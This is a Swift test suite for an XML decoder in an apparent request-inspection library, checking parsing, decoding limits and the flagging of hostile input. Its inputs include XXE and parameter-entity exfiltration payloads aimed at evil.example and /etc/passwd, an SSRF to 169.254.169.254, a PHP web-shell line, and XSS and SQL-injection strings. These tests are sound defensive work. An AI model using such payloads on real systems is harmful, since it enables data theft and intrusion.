import Foundation
import Testing

@testable import PalisadeCore

/// Runs the XML decoder on `text`, declared (content type xml) or sniffed.
private func xml(
    _ text: String, declared: Bool = true, limits: DecodeLimits = .default
) -> (decoded: Decoded?, budget: DecodeBudget) {
    var budget = DecodeBudget(limits: limits)
    let decoded = XMLFieldDecoder().decode(
        Array(text.utf8)[...], context: DecodeContext(source: .body, declared: declared), budget: &budget)
    return (decoded, budget)
}

/// `path=value` for every child, in order.
private func flat(_ decoded: Decoded?) -> [String] {
    (decoded?.children ?? []).map { $0.path + "=" + String(decoding: $0.value, as: UTF8.self) }
}

private func annotation(_ decoded: Decoded?, _ code: AnnotationCode) -> Annotation? {
    decoded?.annotations.first { $0.code == code }
}

private func fixture(_ name: String) throws -> String {
    let url = try #require(
        Bundle.module.url(forResource: name, withExtension: nil, subdirectory: "Fixtures/xml"))
    return try String(contentsOf: url, encoding: .utf8)
}

@Suite struct XMLDecoderTests {
    // MARK: - Structure

    @Test func siblingsWithTheSameNameRepeatThePath() {
        let result = xml("<a><b>x</b><b>y</b></a>")
        #expect(flat(result.decoded) == [".a.b=x", ".a.b=y"])
        #expect(result.decoded?.children.allSatisfy { $0.kind == .text } == true)
        #expect(result.decoded?.children.map(\.fieldName) == ["b", "b"])
        #expect(result.decoded?.annotations == [])
        #expect(result.budget.remainingBytes == DecodeLimits.default.maxDecodedBytes - 2)
    }

    @Test func attributesSitAfterTheElementPath() {
        let result = xml(#"<a id="1"><b c='2' e="&quot;q&quot;">t</b><c/></a>"#)
        #expect(flat(result.decoded) == [".a@id=1", ".a.b@c=2", #".a.b@e="q""#, ".a.b=t"])
        #expect(result.decoded?.children.map(\.fieldName) == ["id", "c", "e", "b"])
        #expect(result.decoded?.annotations == [])
    }

    @Test func namesThatAreNotPlainKeysAreQuoted() {
        let result = xml(#"<a.b x.y="1">t</a.b>"#)
        #expect(flat(result.decoded) == [#"["a.b"]@["x.y"]=1"#, #"["a.b"]=t"#])
    }

    @Test func namespacesAreKeptAsWritten() throws {
        let result = xml(try fixture("soap-envelope.xml"))
        #expect(
            flat(result.decoded) == [
                ".soapenv:Envelope@xmlns:soapenv=http://schemas.xmlsoap.org/soap/envelope/",
                ".soapenv:Envelope@xmlns:acc=urn:example:accounts",
                ".soapenv:Envelope.soapenv:Header.acc:Auth@token=abc123",
                ".soapenv:Envelope.soapenv:Body#comment= lookup by id ",
                ".soapenv:Envelope.soapenv:Body.acc:GetAccount.acc:id=42",
                ".soapenv:Envelope.soapenv:Body.acc:GetAccount.acc:filter=name = 'O''Brien' & active",
            ])
        #expect(result.decoded?.annotations == [])
    }

    @Test func referencesAreDecodedExceptDeclaredEntities() {
        let result = xml(
            "<a t=\"&lt;&#60;&#x3C;\">&lt;x&gt;&amp;&quot;&apos; &xxe; &#0; &#xD800; &bogus &#x110000;</a>")
        #expect(
            flat(result.decoded) == [
                ".a@t=<<<", ".a=<x>&\"' &xxe; &#0; &#xD800; &bogus &#x110000;",
            ])
    }

    @Test func characterReferencesProduceUTF8() {
        #expect(flat(xml("<a>&#233;&#x1F600;</a>").decoded) == [".a=é😀"])
    }

    @Test func cdataJoinsTheTextRunVerbatim() {
        let result = xml("<a>foo<![CDATA[<b>&amp;]]>bar</a>")
        #expect(flat(result.decoded) == [".a=foo<b>&amp;bar"])
    }

    @Test func mixedContentGivesOneChildPerRun() {
        #expect(flat(xml("<a>x<b>y</b>z</a>").decoded) == [".a=x", ".a.b=y", ".a=z"])
    }

    @Test func commentsDoNotSplitATextRun() {
        let result = xml("<q>' OR<!-- x -->1=1<?pi?>--</q>")
        #expect(flat(result.decoded) == [".q#comment= x ", ".q?pi=<?pi?>", ".q=' OR1=1--"])
    }

    @Test func whitespaceOnlyTextIsSkipped() {
        #expect(flat(xml("<a>\n  <b> x </b>\n  <c>\t</c>\n</a>\n").decoded) == [".a.b= x "])
    }

    @Test func processingInstructionsAreMarkupAndTheDeclarationIsSkipped() throws {
        let result = xml(#"<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><a><?php system($_GET[1]); ?></a>"#)
        let decoded = try #require(result.decoded)
        #expect(
            flat(decoded) == [
                #"?xml-stylesheet=<?xml-stylesheet href="x.xsl"?>"#, ".a?php=<?php system($_GET[1]); ?>",
            ])
        #expect(decoded.children.map(\.kind) == [.markup, .markup])
        #expect(
            decoded.annotations == [
                Annotation(.xmlProcessingInstruction, detail: "xml-stylesheet"),
                Annotation(.xmlProcessingInstruction, detail: "php"),
            ])
    }

    // MARK: - DOCTYPE

    @Test func externalEntityIsReportedNeverResolved() throws {
        let text = """
            <?xml version="1.0"?>
            <!DOCTYPE foo [ <!ELEMENT foo ANY > <!ENTITY xxe SYSTEM "file:///etc/passwd" >]>
            <foo>&xxe;</foo>
            """
        let decoded = try #require(xml(text, declared: false).decoded)
        #expect(
            flat(decoded) == [
                #"!doctype=<!DOCTYPE foo [ <!ELEMENT foo ANY > <!ENTITY xxe SYSTEM "file:///etc/passwd" >]>"#,
                ".foo=&xxe;",
            ])
        #expect(decoded.children[0].kind == .markup)
        #expect(
            decoded.annotations == [
                Annotation(.xmlDoctype, detail: "foo", value: 80),
                Annotation(.xmlEntityDeclaration, value: 1),
                Annotation(.xmlExternalEntity, detail: "file:///etc/passwd", value: 1),
            ])
    }

    @Test func parameterEntitiesAndPublicIdentifiers() throws {
        let text = """
            <!DOCTYPE d [
              <!ENTITY % dtd SYSTEM "http://evil.example/x.dtd">
              <!ENTITY %eval "<!ENTITY &#x25; exfil SYSTEM 'http://evil.example/?%file;'>">
              <!ENTITY pub PUBLIC "-//X//EN" 'http://evil.example/p'>
              <!-- <!ENTITY ignored SYSTEM "x"> -->
              %dtd; %eval;
            ]>
            <d/>
            """
        let decoded = try #require(xml(text).decoded)
        #expect(decoded.children.count == 1)
        #expect(annotation(decoded, .xmlEntityDeclaration)?.value == 3)
        #expect(annotation(decoded, .xmlParameterEntity) == Annotation(.xmlParameterEntity, detail: "dtd", value: 2))
        #expect(
            decoded.annotations.filter { $0.code == .xmlExternalEntity }.map(\.detail) == [
                "http://evil.example/x.dtd", "http://evil.example/p",
            ])
        #expect(annotation(decoded, .xmlExternalDTD) == nil)
    }

    @Test func externalSubsetOfTheDoctypeIsAnExternalEntity() throws {
        let text = """
            <!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html><p>x</p></html>
            """
        let decoded = try #require(xml(text, declared: false).decoded)
        let system = "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"
        #expect(annotation(decoded, .xmlExternalEntity)?.detail == system)
        #expect(annotation(decoded, .xmlExternalDTD)?.detail == system)
        #expect(flat(decoded).last == ".html.p=x")
    }

    @Test func systemIdentifierExcerptIsBounded() throws {
        let long = "http://evil.example/" + String(repeating: "é", count: 100)
        let decoded = try #require(xml("<!DOCTYPE a SYSTEM \"\(long)\"><a/>").decoded)
        let detail = try #require(annotation(decoded, .xmlExternalEntity)?.detail)
        #expect(detail.utf8.count <= 60)
        #expect(detail == "http://evil.example/" + String(repeating: "é", count: 20))
    }

    @Test func billionLaughsIsCountedNotExpanded() throws {
        let text = try fixture("billion-laughs.xml")
        let clock = ContinuousClock()
        var result: (decoded: Decoded?, budget: DecodeBudget)?
        let elapsed = clock.measure { result = xml(text, declared: false) }
        let decoded = try #require(result?.decoded)
        #expect(elapsed < .seconds(10))  // a hang guard, not a speed test (see BENCHMARKS.md)
        #expect(flat(decoded).last == ".lolz=&lol9;")
        #expect(annotation(decoded, .xmlDoctype)?.detail == "lolz")
        #expect(annotation(decoded, .xmlEntityDeclaration)?.value == 10)
        #expect(annotation(decoded, .xmlExternalEntity) == nil)
        #expect(decoded.children[0].path == "!doctype")
        #expect(decoded.children[0].value.count < 1_000)
    }

    @Test func doctypeChildIsBounded() throws {
        let subset = String(repeating: "<!ENTITY a \"b\">", count: 10_000)
        let decoded = try #require(xml("<!DOCTYPE a [\(subset)]><a/>").decoded)
        #expect(decoded.children.map(\.path) == ["!doctype"])
        #expect(decoded.children[0].value.count == XMLScanner.maxDoctypeBytes)
        #expect(annotation(decoded, .xmlEntityDeclaration)?.value == 10_000)
        #expect(annotation(decoded, .xmlDoctype)?.value == 150_015)
    }

    // MARK: - Lenient (declared)

    @Test func declaredUnclosedElementsAreClosedAtTheEnd() throws {
        let decoded = try #require(xml("<a><b>x").decoded)
        #expect(flat(decoded) == [".a.b=x"])
        #expect(decoded.annotations == [Annotation(.malformed, detail: "unclosed element at end of input", value: 1)])
    }

    @Test func declaredToleratesUnquotedAndValuelessAttributes() throws {
        let decoded = try #require(xml("<a x=1 y z=2/>").decoded)
        #expect(flat(decoded) == [".a@x=1", ".a@y=", ".a@z=2"])
        #expect(annotation(decoded, .malformed) == Annotation(.malformed, detail: "unquoted attribute value", value: 3))
    }

    @Test func declaredMismatchedEndTagClosesTheNearestMatch() throws {
        let decoded = try #require(xml("<a><b><c>x</a><d>y</d></q>").decoded)
        #expect(flat(decoded) == [".a.b.c=x", ".d=y"])
        #expect(annotation(decoded, .malformed)?.value == 3)  // mismatched end tag, second root, stray end tag
    }

    @Test func declaredTextOutsideTheRootIsKeptAtTheEmptyPath() throws {
        let decoded = try #require(xml("junk <a>x</a> tail").decoded)
        #expect(flat(decoded) == ["=junk ", ".a=x", "= tail"])
        #expect(annotation(decoded, .malformed)?.detail == "text outside the root element")
    }

    @Test(arguments: ["", "   ", "plain text", "<", "< a>", "<!-- only a comment -->", "<?pi x?>"])
    func declaredWithoutAnyElementIsNil(_ text: String) {
        #expect(xml(text).decoded == nil)
    }

    @Test func unterminatedCDATARunsToTheEnd() throws {
        let decoded = try #require(xml("<a><![CDATA[abc</a>").decoded)
        #expect(flat(decoded) == [".a=abc</a>"])
        #expect(
            annotation(decoded, .malformed) == Annotation(.malformed, detail: "unterminated CDATA section", value: 2))
    }

    @Test func unterminatedCommentRunsToTheEnd() throws {
        let decoded = try #require(xml("<a>t<!-- abc</a>").decoded)
        #expect(flat(decoded) == [".a#comment= abc</a>", ".a=t"])
        #expect(annotation(decoded, .malformed)?.detail == "unterminated comment")
    }

    @Test func unterminatedAttributeAndDoctypeRunToTheEnd() throws {
        let decoded = try #require(xml("<a b=\"x><c>y</c></a>").decoded)
        #expect(flat(decoded) == [".a@b=x><c>y</c></a>"])
        #expect(annotation(decoded, .malformed)?.detail == "unterminated attribute value")
        #expect(xml("<!DOCTYPE a [ <!ENTITY x \"").decoded == nil)
        let doctype = try #require(xml("<a/><!DOCTYPE a [ <!ENTITY x SYSTEM \"http://x").decoded)
        #expect(annotation(doctype, .xmlExternalEntity)?.detail == "http://x")
    }

    @Test func everyTruncationOfADocumentDecodesWithoutTrapping() throws {
        let document =
            Array(try fixture("soap-envelope.xml").utf8) + Array(#"<!DOCTYPE x [<!ENTITY % e SYSTEM "u">]>"#.utf8)
        for length in 0...document.count {
            for declared in [true, false] {
                var budget = DecodeBudget(limits: .default)
                let decoded = XMLFieldDecoder().decode(
                    document[..<length], context: DecodeContext(source: .body, declared: declared), budget: &budget)
                if !declared, let decoded {
                    // A sniffed prefix is only claimed when it is a whole document.
                    #expect(length >= document.count - 40, "claimed prefix of \(length)")
                    #expect(!decoded.annotations.contains { $0.code == .malformed })
                }
            }
        }
    }

    @Test func arbitraryBytesNeverTrap() {
        var generator = SystemRandomNumberGenerator()
        let alphabet = Array("<>/!?[]-=\"'&;#x:aé \n".utf8) + [0xFF, 0x00]
        for _ in 0..<300 {
            let bytes = (0..<Int.random(in: 0...200, using: &generator)).map { _ in
                alphabet.randomElement(using: &generator) ?? 0
            }
            for declared in [true, false] {
                var budget = DecodeBudget(limits: .default)
                _ = XMLFieldDecoder().decode(
                    bytes[...], context: DecodeContext(source: .body, declared: declared), budget: &budget)
            }
        }
    }

    // MARK: - Sniffing

    @Test(arguments: [
        "<user><name>bob</name></user>",
        "\u{FEFF}  <order id=\"7\"/>",
        "<?xml version=\"1.0\"?><html><body>x</body></html>",
        "<!DOCTYPE note><note>x</note>",
        "<ns:order xmlns:ns=\"urn:x\">1</ns:order>",
    ])
    func sniffClaimsWellFormedXML(_ text: String) {
        #expect(xml(text, declared: false).decoded != nil)
    }

    @Test(arguments: [
        "<script>alert(1)</script>",
        "<SCRIPT>alert(1)</SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" onerror=\"alert(1)\"/>",
        "<svg/onload=alert(1)>",
        "<svg onload=\"alert(1)\"></svg>",
        "<b>bold</b>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
        "<?xml version=\"1.0\"?><svg onload=\"alert(1)\"/>",
        "<details open=\"\" ontoggle=\"alert(1)\"></details>",
        "<xss onfocus=\"alert(1)\" autofocus=\"\">x</xss>",
        "<esi:include src=\"http://203.0.113.9/\"/>",
        "<ESI:vars>x</ESI:vars>",
        "<xsl:value-of select=\"system-property('xsl:vendor')\"/>",
        "<x a=1>t</x>",
        "<x a>t</x>",
        "<a>unclosed",
        "<note>x</note> trailing",
        "<n/><m/>",
        "hello <n>x</n>",
        "<!-- c --><n/>",
        "< n/>",
        "<1n/>",
        "<!doctype html><html></html>",
        "<n>x</m>",
        "<n>a < b</n>",
        "<n><![CDATA[x</n>",
        "<n>x<!--</n>",
        "<n a=\"1\" a=\"2",
        "<?xml",
        "<?xmlfoo?><n/>",
        "<",
        "",
    ])
    func sniffRefusesHTMLAndMalformedMarkup(_ text: String) {
        #expect(xml(text, declared: false).decoded == nil)
    }

    /// Declared XML is parsed whatever its root: only sniffing leaves ESI and XSLT roots as text.
    @Test func declaredDirectiveRootsAreStillParsed() {
        #expect(
            xml("<xsl:stylesheet xmlns:xsl=\"urn:x\"><xsl:template/></xsl:stylesheet>", declared: true).decoded != nil)
        #expect(xml("<esi:include src=\"/x\"/>", declared: true).decoded != nil)
        #expect(XMLFieldDecoder.isDirectivePrefix(Array("Xsl:template".utf8)[...]))
        #expect(!XMLFieldDecoder.isDirectivePrefix(Array("esix:y".utf8)[...]))
        #expect(!XMLFieldDecoder.isDirectivePrefix(Array("esi".utf8)[...]))
    }

    @Test func sniffRefusalLeavesTheBudgetUntouched() {
        let result = xml("<n>" + String(repeating: "x", count: 1000) + "</m>", declared: false)
        #expect(result.decoded == nil)
        #expect(result.budget.remainingBytes == DecodeLimits.default.maxDecodedBytes)
        #expect(result.budget.hits.isEmpty)
    }

    // MARK: - Limits and hostile input

    @Test func nestingBeyondTheLimitIsCutButSiblingsAreKept() throws {
        var limits = DecodeLimits()
        limits.maxStructureDepth = 3
        let result = xml("<a><b><c x=\"1\"><d y=\"2\">deep<!--c--><e/></d>mid</c>tail</b><f>g</f></a>", limits: limits)
        let decoded = try #require(result.decoded)
        #expect(flat(decoded) == [".a.b.c@x=1", ".a.b.c=mid", ".a.b=tail", ".a.f=g"])
        #expect(decoded.annotations == [Annotation(.limitStructureDepth, detail: "xml", value: 3)])
        #expect(result.budget.hits == [.structureDepth])
    }

    @Test func tenThousandDeepNestingIsCheapAndBounded() throws {
        let depth = 10_000
        let text = String(repeating: "<n>", count: depth) + "x" + String(repeating: "</n>", count: depth)
        let clock = ContinuousClock()
        var result: (decoded: Decoded?, budget: DecodeBudget)?
        let elapsed = clock.measure { result = xml(text, declared: false) }
        let decoded = try #require(result?.decoded)
        #expect(elapsed < .seconds(10))  // a hang guard, not a speed test
        #expect(decoded.children.isEmpty)
        #expect(annotation(decoded, .limitStructureDepth)?.value == 64)
        #expect(result?.budget.hits == [.structureDepth])
        // Unbalanced: declared keeps going, sniffing refuses.
        let open = String(repeating: "<n>", count: depth)
        #expect(xml(open, declared: false).decoded == nil)
        #expect(annotation(xml(open).decoded, .malformed)?.detail == "unclosed element at end of input")
    }

    @Test func oneMegabyteAttributeIsOneChild() throws {
        let big = String(repeating: "x", count: 1 << 20)
        let result = xml("<n v=\"\(big)\"/>", declared: false)
        let decoded = try #require(result.decoded)
        #expect(decoded.children.count == 1)
        #expect(decoded.children[0].path == ".n@v")
        #expect(decoded.children[0].value.count == 1 << 20)
        #expect(result.budget.remainingBytes == DecodeLimits.default.maxDecodedBytes - (1 << 20))
    }

    @Test func byteBudgetSkipsWhatDoesNotFit() throws {
        var limits = DecodeLimits()
        limits.maxDecodedBytes = 10
        let result = xml("<a><b>12345678</b><c>123456</c><d>12</d></a>", limits: limits)
        #expect(flat(result.decoded) == [".a.b=12345678", ".a.d=12"])
        #expect(result.budget.remainingBytes == 0)
        #expect(result.budget.hits == [.bytes])
    }

    @Test func pointBudgetBoundsTheChildren() throws {
        var limits = DecodeLimits()
        limits.maxPoints = 2
        let result = xml("<a><b>1</b><b>2</b><b>3</b></a>", limits: limits)
        #expect(flat(result.decoded) == [".a.b=1", ".a.b=2"])
        #expect(result.budget.hits == [.points])
    }

    @Test func manyProcessingInstructionsAnnotateABoundedNumber() throws {
        let text = "<a>" + String(repeating: "<?p x?>", count: 100) + "</a>"
        let decoded = try #require(xml(text).decoded)
        #expect(decoded.children.count == 100)
        #expect(decoded.annotations.count == XMLScanner.maxItemAnnotations)
    }

    // MARK: - Through the engine

    @Test func declaredBodyThroughTheEngine() {
        let record = CaptureRecord(
            id: "x", ts: 0, method: "POST", rawPath: "/soap",
            headers: [.init("Content-Type", "application/xml; charset=utf-8")],
            body: Array("<a><b>1' OR '1'='1</b><b c=\"d\">2</b></a>".utf8))
        let decoded = RequestDecoder().decode(record)
        #expect(decoded.value(at: "body.xml.a.b") == "1' OR '1'='1")
        #expect(decoded.points(at: "body.xml.a.b").count == 2)
        #expect(decoded.value(at: "body.xml.a.b@c") == "d")
        #expect(decoded.points.first { $0.segment == "body" }?.isContainer == true)
    }

    @Test func xmlInsideAJSONStringIsSniffed() {
        let record = CaptureRecord(
            id: "x", ts: 0, method: "POST", rawPath: "/import",
            headers: [.init("content-type", "application/json")],
            body: Array(#"{"doc":"<?xml version=\"1.0\"?><a>x<b>1</b></a>","html":"<b>hi</b>"}"#.utf8))
        let decoded = RequestDecoder().decode(record)
        #expect(decoded.value(at: "body.json.doc>xml.a") == "x")
        #expect(decoded.value(at: "body.json.doc>xml.a.b") == "1")
        #expect(decoded.value(at: "body.json.html") == "<b>hi</b>")
        #expect(decoded.points(at: "body.json.html>xml.b").isEmpty)
    }

    @Test func xxeAnnotationsReachTheRequest() throws {
        let record = CaptureRecord(
            id: "x", ts: 0, method: "POST", rawPath: "/",
            headers: [.init("content-type", "text/xml")],
            body: Array(#"<!DOCTYPE r [<!ENTITY x SYSTEM "http://169.254.169.254/">]><r>&x;</r>"#.utf8))
        let decoded = RequestDecoder().decode(record)
        let external = try #require(decoded.annotations(.xmlExternalEntity).first)
        #expect(external.detail == "http://169.254.169.254/")
        #expect(decoded.location(of: Int(external.point)) == "body")
        #expect(decoded.value(at: "body.xml!doctype")?.hasPrefix("<!DOCTYPE r [") == true)
        #expect(decoded.value(at: "body.xml.r") == "&x;")
    }
}
